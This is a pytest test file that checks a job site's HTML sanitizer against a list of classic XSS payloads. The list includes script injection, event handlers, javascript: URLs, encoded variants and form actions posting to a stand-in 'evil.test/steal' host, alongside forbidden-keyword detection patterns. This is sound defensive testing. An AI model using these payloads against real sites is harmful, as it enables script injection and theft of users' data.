"""jobs.sanitize.clean_html against classic XSS payloads.

Descriptions reach us raw (users), entity-encoded once or twice (Greenhouse, JSON-LD), so
the app's pipeline is ``clean_html(decode_entities(value))``. Both that pipeline and plain
``clean_html(value)`` are checked: the first with string checks, both structurally (every
tag and attribute left in the output is on the allow-list).
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from jobs.sanitize import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, ALLOWED_URL_SCHEMES, clean_html, decode_entities

PAYLOADS = [
    # script tags
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/src=data:,alert(1)></script>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<IMG SRC="x" ONERROR="alert(1)">',
    "<svg onload=alert(1)><circle r=5/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<a href="https://ok.test" onmouseover="alert(1)">hover</a>',
    '<p onclick="steal()" class="x" id="y">para</p>',
    # javascript: / data: / vbscript: URLs, mixed case and entity encoded
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href=" &#14; javascript:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
    '<a href="&#x6A;avascript&#x3A;alert(1)">click</a>',
    '<a href="java\tscript:alert(1)">tab</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    # style
    '<div style="background:url(javascript:alert(1))">styled</div>',
    '<p style="width: expression(alert(1))">ie</p>',
    '<style>@import "https://evil.test/x.css";</style>',
    # frames, plugins, forms, meta, link/base
    '<iframe src="https://evil.test"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<form action="https://evil.test/steal"><input name=p><button formaction="javascript:alert(1)">go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="https://evil.test/x.css"><base href="https://evil.test/">',
    # nested / malformed / parser differentials
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img """><script>alert(1)</script>">',
    "<p>text</p><!--<script>alert(1)</script>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="https://ok.test/"<script>alert(1)</script>>x</a>',
    # entity-encoded, double- and triple-encoded (turned into markup by decode_entities)
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&amp;amp;lt;svg onload=alert(1)&amp;amp;gt;",
    "&lt;a href=&quot;javascript:alert(1)&quot;&gt;x&lt;/a&gt;",
    "&lt;iframe src=&quot;javascript:alert(1)&quot;&gt;&lt;/iframe&gt;",
]

FORBIDDEN = ["<script", "javascript:", "vbscript:", "data:", "<iframe", "<frame", "<object", "<embed", "<svg",
             "<math", "<img", "<style", "<link", "<base", "<meta", "<form", "<input", "<button", "expression(",
             "style=", "srcdoc"]
HANDLER = re.compile(r"\bon\w+\s*=", re.I)


class _Structure(HTMLParser):
    """Collects every tag and attribute of a piece of HTML."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def assert_only_allowed_markup(out: str) -> None:
    parser = _Structure()
    parser.feed(out)
    parser.close()
    for tag, attrs in parser.tags:
        assert tag in ALLOWED_TAGS, (tag, out)
        for name, value in attrs:
            assert name in ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel"}, (tag, name, out)
            if name == "href":
                assert urlsplit((value or "").strip()).scheme.lower() in ALLOWED_URL_SCHEMES, (value, out)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_decoded_pipeline_output_has_no_active_content(payload):
    out = clean_html(decode_entities(payload))
    lowered = out.lower()
    for bad in FORBIDDEN:
        assert bad not in lowered, (bad, payload, out)
    assert not HANDLER.search(out), (payload, out)
    assert "alert(1)</" not in lowered
    assert_only_allowed_markup(out)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_raw_output_has_only_allowed_markup(payload):
    # Entity-encoded payloads survive as inert, still-escaped text here; no tag or attribute can.
    out = clean_html(payload)
    assert "<script" not in out.lower()
    assert_only_allowed_markup(out)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_sanitising_is_stable(payload):
    once = clean_html(decode_entities(payload))
    assert clean_html(once) == once


def test_safe_markup_and_links_survive():
    html = ('<h2>Role</h2><p>We <strong>ship</strong> &amp; <em>learn</em>.</p>'
            '<ul><li>Python</li></ul><a href="https://jobs.test/apply?id=1&amp;src=x">Apply</a>'
            '<a href="mailto:jobs@example.test">Mail</a>')
    out = clean_html(html)
    for kept in ("<h2>Role</h2>", "<strong>ship</strong>", "&amp;", "<em>learn</em>", "<li>Python</li>",
                 'href="https://jobs.test/apply?id=1&amp;src=x"', 'href="mailto:jobs@example.test"'):
        assert kept in out
    assert 'rel="noopener noreferrer nofollow"' in out


def test_script_and_style_content_is_dropped_not_shown():
    out = clean_html("<p>ok</p><script>var secret = 1;</script><style>p{color:red}</style>")
    assert out == "<p>ok</p>"


@pytest.mark.parametrize("value", [None, ""])
def test_empty(value):
    assert clean_html(value) == ""
